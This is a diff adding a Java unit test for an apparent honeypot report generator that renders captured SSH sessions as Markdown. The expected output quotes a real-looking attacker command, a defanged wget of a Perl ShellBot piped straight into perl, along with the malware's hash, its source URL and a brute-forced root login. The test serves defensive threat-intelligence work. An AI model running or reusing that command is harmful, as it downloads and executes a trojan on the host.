@@ -1,0 +1,58 @@
+package io.github.cowriekit.report;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.github.cowriekit.model.SessionEnd;
+import io.github.cowriekit.model.intel.EnrichedSession;
+import java.util.Collections;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class MarkdownReportTest {
+    @Test
+    void hasATableOfFactsAndFilesAndTheCommands() {
+        assertThat(DiaryReportTest.write(Reports.markdown(), List.of(Diary.perlBot())))
+                .isEqualTo("""
+                        ## Session 8d39860bce79
+
+                        | | |
+                        | --- | --- |
+                        | Duration | 3\\.12 s |
+                        | Protocol | ssh |
+                        | Source | 45\\.79\\.54\\.105 |
+                        | Network | LINODE\\-AP Linode\\, LLC |
+                        | Country | US |
+                        | Login | root \\/ qwerty123456 |
+                        | Commands | 1 |
+
+                        | File | SHA-256 | From | Destination | VirusTotal |
+                        | --- | --- | --- | --- | --- |
+                        | download | bb4c8ee23103cd57741a1008552dae1038c17c505dd16f80571d795d91892cad | http\\[\\:\\/\\/\\]103\\[\\.\\]52\\[\\.\\]134\\[\\.\\]51\\/csx\\/perlNIK |  | 39 malicious trojan\\.perl\\/shellbot |
+
+                        ```text
+                        wget -qO - 103[.]52[.]134[.]51/csx/perlNIK|perl
+                        ```
+
+                        """);
+    }
+
+    @Test
+    void fencesCommandsThatHoldFences() {
+        assertThat(commands("```` x", "id")).contains("\n`````text\n```` x\nid\n`````\n");
+    }
+
+    @Test
+    void countsTheCommandsItDoesNotShow() {
+        assertThat(commands(Collections.nCopies(130, "w").toArray(String[]::new)))
+                .contains("… and 30 more commands\n")
+                .hasSizeLessThan(2_000);
+    }
+
+    private static String commands(String... inputs) {
+        return DiaryReportTest.write(
+                Reports.markdown(),
+                List.of(EnrichedSession.of(Diary.session("aaaaaaaaaaaa", "192.0.2.1", SessionEnd.CLOSED)
+                        .commands(List.of(inputs).stream().map(Diary::command).toList())
+                        .build())));
+    }
+}
